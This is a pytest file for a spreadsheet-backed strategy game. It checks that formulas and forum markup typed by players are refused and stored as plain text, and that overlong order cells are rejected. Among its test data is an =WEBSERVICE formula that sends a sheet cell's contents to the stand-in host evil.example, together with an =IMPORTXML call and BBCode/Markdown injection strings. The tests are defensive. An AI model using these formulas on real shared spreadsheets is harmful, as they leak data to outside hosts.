"""Issue 15, points 11 and 13: what a player typed is data, never code, and never too long.

A player with edit rights types a formula (``=IMPORTXML(…)``, ``=WEBSERVICE(…&'Кампания'!B11)``)
or forum markup into an order cell.  The row is refused, and wherever the program writes the
text back -- the order tab itself (cells, status, reason, echo), «Архив приказов», the private
report tab, the Markdown report and the forum post -- it is a string (openpyxl data type 's', the
emulator's stored ``stringValue``), never a live formula or a tag.  An order cell over
``MAX_INPUT_CHARS`` is refused with a reason, its quotes are short, and no cell the program writes
is ever longer than Google's 50,000 characters (the writers refuse such a write whole).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import openpyxl
import pytest
import test_google_support as support
from test_google_support import P1, P2, GoogleEnv, demo_spec, small_spec

from engine.core import history
from engine.core.errors import BackendError
from engine.core.tables import Changeset, Formula, ReplaceTab, Tables, WriteBlock
from engine.rulesets.ancient import report, ruleset
from sheets_bridge import sync
from sheets_bridge.xlsx import XlsxBackend, create_xlsx

emulator_server = support.emulator_server
google = support.google

MAX_CELL_CHARS = 50_000  # Google's limit for one cell (engine.core.tables.MAX_CELL_CHARS)
MAX_INPUT_CHARS = 1_000  # the longest order cell accepted (engine.rulesets.ancient.orders.MAX_INPUT_CHARS)
TAB = "Приказы — Египет"
ARCHIVE = "Архив приказов"
IMPORT = '=IMPORTXML("http://evil.example/x","//a")'
STEAL = "=WEBSERVICE(\"http://evil.example/?s=\"&'Кампания'!B11)"
MARKUP = "[url=http://evil.example]жми[/url] [/quote] [клик](http://evil.example) </details> **жир**"
# the rows a hostile player types into Egypt's order tab (columns A..C: action, object, where)
HOSTILE: list[list[Any]] = [
    ["Построить", Formula(IMPORT), "Нижний Египет"],
    [Formula(STEAL), "Храм", "Нижний Египет"],
    ["Построить", MARKUP, "Нижний Египет"],
    ["=HYPERLINK(\"http://evil.example\",\"жми\")", "Храм", "Нижний Египет"],  # typed as text, '=' first
]
TEXTS = (IMPORT, STEAL, "[url=http://evil.example]", '=HYPERLINK("http://evil.example"')


class Book:
    """A demo campaign on one backend, with ways to look at how a cell is stored."""

    def __init__(self, kind: str, tmp_path: Path, request: pytest.FixtureRequest) -> None:
        self.kind = kind
        if kind == "xlsx":
            self.path = tmp_path / "campaign.xlsx"
            create_xlsx(demo_spec(), self.path)
        else:
            self.env: GoogleEnv = request.getfixturevalue("google")
            self.sid = self.env.campaign("demo", orders=False)

    def open(self) -> Any:
        return XlsxBackend(self.path) if self.kind == "xlsx" else self.env.backend(self.sid)

    def read(self) -> Tables:
        return self.open().read()

    def write(self, changes: Changeset) -> None:
        backend = self.open()
        backend.read()
        backend.write(changes)

    def stored(self, tab: str) -> dict[tuple[int, int], tuple[str, Any]]:
        """(row, col) 1-based -> (kind, value) as the file / the emulator stores the cell:
        kind 's' for a string, 'f' for a formula, 'n' for a number, 'b' for a bool."""
        return self.stored_tabs()[tab]

    def stored_tabs(self) -> dict[str, dict[tuple[int, int], tuple[str, Any]]]:
        """Every tab's stored cells (see :meth:`stored`), from one load of the file or one dump of
        the emulator: a search of every tab costs one load, not one per tab."""
        out: dict[str, dict[tuple[int, int], tuple[str, Any]]] = {}
        if self.kind == "xlsx":
            for ws in openpyxl.load_workbook(self.path):
                cells = out[ws.title] = {}
                for row in ws.iter_rows():
                    for cell in row:
                        if cell.value is not None:
                            cells[(cell.row, cell.column)] = (cell.data_type, cell.value)
            return out
        kinds = {"stringValue": "s", "formulaValue": "f", "numberValue": "n", "boolValue": "b"}
        for sheet in self.env.emu.dump(self.sid)["sheets"]:
            cells = out[sheet["properties"]["title"]] = {}
            for r, line in enumerate(sheet["data"][0].get("rowData", []), start=1):
                for c, cell in enumerate(line.get("values", []), start=1):
                    entered = cell.get("userEnteredValue") or {}
                    for key, value in entered.items():
                        cells[(r, c)] = (kinds[key], value)
        return out


@pytest.fixture(params=["xlsx", "google"])
def book(request: pytest.FixtureRequest, tmp_path: Path) -> Book:
    return Book(request.param, tmp_path, request)


def _player_cells(stored: dict[tuple[int, int], tuple[str, Any]]) -> list[tuple[tuple[int, int], str, Any]]:
    """The stored cells whose value holds one of the hostile texts."""
    return [(rc, kind, v) for rc, (kind, v) in stored.items() if any(t in str(v) for t in TEXTS)]


def test_i15_p11_a_players_formula_is_refused_and_written_back_as_text_everywhere(book: Book) -> None:
    """Point 11: the rows are refused (a formula is named as the reason); after check and resolve
    every cell that quotes the player's text -- order tab, status/reason/echo, «Архив приказов» --
    is stored as a string on .xlsx and on Google, and no formula of the player is left anywhere."""
    book.write(Changeset(blocks=[WriteBlock(TAB, 2, 1, HOSTILE)]))
    typed = book.stored(TAB)
    assert typed[(2, 2)][0] == "f" and typed[(3, 1)][0] == "f"  # what the player typed: live formulas

    sync.check(book.open())
    rows = book.read()[TAB]
    assert rows[1][7] == "отклонён" and "формула" in rows[1][8] and IMPORT[:20] in rows[1][8]
    assert rows[2][7] == "отклонён" and "формула" in rows[2][8]
    assert rows[3][7] == "отклонён" and rows[4][7] == "отклонён"

    sync.resolve(book.open(), turn=1)
    tables = book.read()
    archived = [r for r in tables[ARCHIVE][1:] if r and r[0] == 1 and r[1] == "Египет" and r[2] in (2, 3, 4, 5)]
    assert [r[2] for r in archived] == [2, 3, 4, 5]
    assert archived[0][4] == IMPORT and archived[1][3] == STEAL
    assert all(r[8] == "отклонён" for r in archived)
    for tab in (TAB, ARCHIVE):
        quoted = _player_cells(book.stored(tab))
        assert len(quoted) >= 6, (tab, quoted)
        assert all(kind == "s" for _rc, kind, _v in quoted), (tab, quoted)
    for name, grid in tables.items():
        if name == history.HISTORY_TAB:
            continue  # compressed snapshots of the tables as read, not cells of the sheet
        live = [v for line in grid for v in line if isinstance(v, Formula) and any(t in v for t in TEXTS)]
        assert not live, (name, live)


def test_i15_p11_private_report_tab_and_markdown_report_keep_player_text_inert(
    google: GoogleEnv, tmp_path: Path
) -> None:
    """Point 11: the private report tab (private-orders mode, on the emulator) stores the quoted
    player text as strings; the Markdown report escapes its markup; an old archive that still
    holds a player's formula does not bring it back into a report."""
    first, second = "Г0000", "Г0001"
    tab = f"Приказы — {first}"
    created = google.create(small_spec(), players={first: P1, second: P2}, private_orders=True)
    backend = google.backend(created.spreadsheet_id)
    backend.read()
    backend.write(Changeset(blocks=[WriteBlock(tab, 2, 1, [["Построить", Formula(IMPORT), "П000-000"],
                                                           ["Построить", MARKUP, "П000-000"]])]))
    sync.resolve(google.backend(created.spreadsheet_id), turn=1)
    private = created.order_books[tab]
    sheet = next(s for s in google.emu.dump(private)["sheets"] if s["properties"]["title"] == f"Отчёт — {first}")
    entered = [c.get("userEnteredValue", {}) for line in sheet["data"][0].get("rowData", [])
               for c in line.get("values", [])]
    quoted = [e for e in entered if any(t in str(e) for t in TEXTS)]
    assert quoted and all(set(e) == {"stringValue"} for e in quoted), quoted

    tables = google.backend(created.spreadsheet_id).read()
    md = report.private_report(tables, first)
    assert "\\[клик\\](http://evil.example)" in md and "[клик](" not in md
    assert "\\</details\\>" in md and "\\*\\*жир\\*\\*" in md

    # an archive written before this fix, with the player's formula as its action and no echo
    arch = tables[ARCHIVE]
    i = next(i for i, r in enumerate(arch) if r and r[1] == first and r[2] == 2)
    arch[i] = [*arch[i][:3], Formula(STEAL), *arch[i][4:10]]
    tabs = ruleset.private_tabs(tables)
    cells = [v for rep in tabs for line in rep.rows for v in line]
    assert STEAL in cells and not any(isinstance(v, Formula) for v in cells)


def test_i15_p11_forum_post_neutralises_bbcode_and_markdown_in_sheet_text(campaign: Path) -> None:
    """Point 11: text that reaches the chronicle opens no tag in the forum post: a «[url=…]»,
    «[/spoiler]» or «</details>» in it shows as typed (BBCode and Markdown)."""
    sync.resolve(XlsxBackend(campaign), turn=1)
    tables = XlsxBackend(campaign).read()
    tables["Журнал"].append([1, "Событие: [url=http://evil.example]x[/url] [/spoiler] </details> **b** построено"])
    bb = "\n".join(report.forum_post(tables, 1, "bbcode"))
    assert "[url=" not in bb and "[\u200burl=http://evil.example]" in bb
    assert bb.count("[/spoiler]") == bb.count("[spoiler=")
    md = "\n".join(report.forum_post(tables, 1, "markdown"))
    assert md.count("</details>") == md.count("<details>") and "\\</details\\>" in md and "\\*\\*b\\*\\*" in md


def test_i15_p11_xlsx_text_that_looks_like_an_error_or_has_control_chars_stays_text(campaign: Path) -> None:
    """Point 11 (.xlsx): openpyxl would store «#N/A» as an error value and refuse a control
    character with an exception; the writer stores both as strings."""
    backend = XlsxBackend(campaign)
    backend.read()
    backend.write(Changeset(blocks=[WriteBlock("Журнал", 5, 2, [["#N/A"], ["+1"], ["@x"], ["a\x01b"]])]))
    ws = openpyxl.load_workbook(campaign)["Журнал"]
    assert [ws.cell(r, 2).data_type for r in range(5, 9)] == ["s"] * 4
    assert [ws.cell(r, 2).value for r in range(5, 9)] == ["#N/A", "+1", "@x", "a\ufffdb"]


def test_i15_p13_an_over_long_order_is_refused_and_no_written_cell_exceeds_the_limit(book: Book) -> None:
    """Point 13: a 49,000-character order cell is refused with «слишком длинный текст»; its echo,
    reason and archive row quote it shortened; every cell written by check and resolve is within
    Google's 50,000 characters."""
    long_text = "Храм" * 12_250  # 49,000 characters
    book.write(Changeset(blocks=[WriteBlock(TAB, 2, 1, [["Построить", long_text, "Нижний Египет"],
                                                        [long_text[:45_000], "", ""]])]))
    typed = [len(str(book.read()[TAB][r][c])) for r, c in ((1, 1), (2, 0))]
    assert typed == ([49_000, 45_000] if book.kind == "google" else [32_767, 32_767])  # Excel's own limit
    sync.check(book.open())
    rows = book.read()[TAB]
    assert rows[1][7] == "отклонён"
    assert f"слишком длинный текст: {typed[0]} знаков, не больше {MAX_INPUT_CHARS}" in rows[1][8]
    assert f"слишком длинный текст: {typed[1]} знаков" in rows[2][8]
    assert all(len(str(v)) <= 300 for v in rows[1][7:10] + rows[2][7:10])
    sync.resolve(book.open(), turn=1)
    tables = book.read()
    archived = [r for r in tables[ARCHIVE][1:] if r and r[1] == "Египет" and r[2] in (2, 3)]
    assert len(archived) == 2 and all(len(str(v)) <= 300 for r in archived for v in r[8:11])
    for name, grid in tables.items():
        for line in grid:
            assert all(len(v) <= MAX_CELL_CHARS for v in line if isinstance(v, str)), name


def test_i15_p13_the_writers_refuse_any_cell_over_googles_limit_and_write_nothing(book: Book) -> None:
    """Point 13, the last-line guard: a changeset with a cell over 50,000 characters (a bug) is
    refused by both backends with a message naming the cell, and nothing at all is written."""
    before = book.read()
    too_long = "x" * (MAX_CELL_CHARS + 1)
    changes = Changeset(
        replace=[ReplaceTab("Журнал", [["Ход", "Запись"], [1, "ok"]])],
        blocks=[WriteBlock("Казна", 3, 7, [["ok"], [too_long]])],
    )
    backend = book.open()
    backend.read()
    with pytest.raises(BackendError) as err:
        backend.write(changes)
    assert "Казна!G4" in str(err.value) and "50000" in str(err.value) and "ничего не изменено" in str(err.value)
    assert book.read() == before
    assert Changeset(blocks=[WriteBlock("Казна", 3, 7, [["x" * MAX_CELL_CHARS]])]).oversized() == []


def test_i15_p13_the_limits_the_tests_use_are_the_programs() -> None:
    from engine.core import tables
    from engine.rulesets.ancient import orders

    assert tables.MAX_CELL_CHARS == MAX_CELL_CHARS and orders.MAX_INPUT_CHARS == MAX_INPUT_CHARS


def test_i15_p13_the_emulator_refuses_a_cell_over_the_limit_as_google_does(
    google: GoogleEnv, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Point 13: what the guard prevents.  Without it, Google (here the emulator) answers 400
    «more than the maximum of 50000 characters in a single cell» and the batch is not applied."""
    sid = google.campaign("small", orders=False)
    before = google.backend(sid).read()
    monkeypatch.setattr(Changeset, "check_cells", lambda self, limit=MAX_CELL_CHARS: None)
    backend = google.backend(sid)
    backend.read()
    with pytest.raises(BackendError) as err:
        backend.write(Changeset(blocks=[WriteBlock("Журнал", 3, 2, [["ok"], ["x" * (MAX_CELL_CHARS + 1)]])]))
    assert "50000 characters" in str(err.value)
    assert google.backend(sid).read() == before
    backend = google.backend(sid)
    backend.read()
    backend.write(Changeset(blocks=[WriteBlock("Журнал", 3, 2, [["x" * MAX_CELL_CHARS]])]))
    assert google.backend(sid).read()["Журнал"][2][1] == "x" * MAX_CELL_CHARS
